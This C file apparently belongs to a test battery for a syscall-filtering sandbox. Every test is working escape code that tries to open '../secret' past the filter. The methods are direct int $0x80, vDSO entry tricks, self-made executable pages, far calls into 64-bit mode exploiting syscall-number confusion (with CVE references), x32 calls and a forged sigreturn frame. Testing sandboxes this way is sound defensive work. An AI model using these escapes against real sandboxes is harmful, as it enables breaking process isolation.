/*
 * Class 1: into the kernel around the gate. All try to open ../secret, or to have any call but the four carried out.
 */
#include "attack.h"
#include <sys/auxv.h>

static int outcome(long fd) {
    if (fd >= 0)
        return is_secret((int)fd) ? GOT : BROKEN;
    say("-%ld\n", -fd);
    return fd == -EPERM ? HELD : BROKEN;
}

static long int80(long nr, const void *a, long b, long c) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
    return result;
}

ATTACK(direct_int80, "int80") { return outcome(int80(SYS_open, "../secret", O_RDONLY, 0)); }

/* The vDSO's __kernel_vsyscall, by its first instructions (push %ecx; push %edx; push %ebp; mov): AT_SYSINFO, which tells it
 * outside, names the gate under trap. 0 if it is not there. */
static unsigned long kernel_vsyscall(void) {
    const char *vdso = (const char *)getauxval(AT_SYSINFO_EHDR);
    unsigned at;

    for (at = 0; vdso && at < 2 * 4096 - 4; at++)
        if (memcmp(vdso + at, "\x51\x52\x55\x89", 4) == 0)
            return (unsigned long)(vdso + at);
    return 0;
}

ATTACK(direct_vsyscall, "vdso-entry") {
    long result = SYS_open;
    unsigned long entry = kernel_vsyscall();
    if (!entry)
        return BROKEN;
    __asm__ volatile("call *%%esi" : "+a"(result) : "b"("../secret"), "c"(O_RDONLY), "d"(0), "S"(entry) : "memory");
    return outcome(result);
}

/* The vDSO's entry behind its three pushes, as the trustee uses it. */
ATTACK(direct_vsyscall_tail, "vdso-entry-tail") {
    long result = SYS_open;
    unsigned long entry = kernel_vsyscall();
    if (!entry)
        return BROKEN;
    __asm__ volatile("call 1f; jmp 2f\n1: push %%ecx; push %%edx; push %%ebp; mov %%ecx, %%ebp; lea 3(%%esi), %%esi;"
                     "cmpb $0x89, (%%esi); jne 3f; mov %%esp, %%ebp\n3: jmp *%%esi\n2:"
                     : "+a"(result), "+S"(entry) : "b"("../secret"), "c"(O_RDONLY), "d"(0) : "memory", "cc");
    return outcome(result);
}

/* int $0x80 in memory of its own making: no site that anybody knows. */
ATTACK(direct_new_code, "int80-in-new-code") {
    static const uint8_t code[] = {0xcd, 0x80, 0xc3};
    uint8_t *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    long result = SYS_open;
    if (page == MAP_FAILED)
        return BROKEN;
    memcpy(page, code, sizeof code);
    if (mprotect(page, 4096, PROT_READ | PROT_EXEC) != 0)
        return BROKEN;
    __asm__ volatile("call *%%esi" : "+a"(result) : "b"("../secret"), "c"(O_RDONLY), "d"(0), "S"(page) : "memory");
    return outcome(result);
}

/* By a far call into 64-bit code. Its addresses are 32-bit ones here, so %rdi can hold the string's. */
static long far64(long nr, const void *a, long b, long c) {
    long result;
    __asm__ volatile("lcall $0x33, $1f; jmp 2f\n"
                     "1: .byte 0x0f, 0x05\n" /* syscall; it takes %rcx and %r11 */
                     "   .byte 0xcb\n2:"   /* lret */
                     : "=a"(result) : "a"(nr), "D"(a), "S"(b), "d"(c) : "memory", "ecx", "cc");
    return result;
}

/* CVE-2009-0835: seccomp took the 64-bit number of a call for the 32-bit one. 2 is open, and in 32-bit mode fork. */
ATTACK(far_open, "far-64-bit-open") { return outcome(far64(2, "../secret", O_RDONLY, 0)); }

/* The same the other way round: 3, 4 and 119 are allowed as 32-bit calls; here they are close, stat and getresgid. */
ATTACK(far_numbers, "far-64-bit-numbers") {
    static long room[32];
    if (far64(4, "../secret", (long)room, 0) == 0 || far64(119, room, (long)(room + 2), (long)(room + 4)) == 0)
        return GOT;
    return far64(3, (void *)0, 0, 0) == 0 ? GOT : BROKEN;
}

/* CVE-2019-10063: a filter looked at 64 bits of ioctl's request where the kernel looks at 32. Here it is not even asked. */
ATTACK(far_ioctl, "far-64-bit-ioctl") {
    far64(16, (void *)0, 0x5412, (long)"x");
    return GOT;
}

ATTACK(far_x32, "far-x32") {
    far64(0x40000000 | 39, NULL, 0, 0); /* whatever it says, the kernel was asked */
    return GOT;
}

/* CVE-2009-0342: int $0x80 from 64-bit code is a 32-bit call. */
ATTACK(far_int80, "far-int80") {
    long result;
    __asm__ volatile("lcall $0x33, $1f; jmp 2f\n1: int $0x80\n   .byte 0xcb\n2:"
                     : "=a"(result) : "a"(SYS_open), "b"("../secret"), "c"(O_RDONLY), "d"(0) : "memory", "cc");
    return outcome(result);
}

/* 64-bit code reached by a forged return from a signal: sigreturn takes %cs from the frame. */
ATTACK(sigreturn_64, "sigreturn-into-64-bit") {
    static uint32_t frame[256], stack[64];
    uint32_t *sc = frame; /* struct sigcontext_32: gs fs es ds edi esi ebp esp ebx edx ecx eax trapno err eip cs eflags esp ss */
    uint16_t ds, ss;
    uint32_t target;
    __asm__("mov %%ds, %0; mov %%ss, %1" : "=r"(ds), "=r"(ss));
    __asm__ volatile("mov $1f, %0; jmp 2f\n"
                     "1: .byte 0x0f, 0x05\n"                     /* syscall: open("../secret") */
                     "   .byte 0xbf, 41, 0, 0, 0, 0x85, 0xc0, 0x79, 5, 0xbf, 42, 0, 0, 0\n" /* mov $41,%edi; test %eax; jns; mov $42,%edi */
                     "   .byte 0xb8, 60, 0, 0, 0, 0x0f, 0x05\n2:" : "=r"(target)); /* exit(%edi) */
    sc[2] = ds, sc[3] = ds;
    sc[4] = (uint32_t) "../secret", sc[5] = O_RDONLY;
    sc[7] = (uint32_t)(stack + 32), sc[11] = 2;
    sc[14] = target, sc[15] = 0x33, sc[16] = 0x202, sc[18] = ss;
    __asm__ volatile("mov %0, %%esp; mov $119, %%eax; int $0x80" : : "r"(sc) : "memory");
    return BROKEN;
}
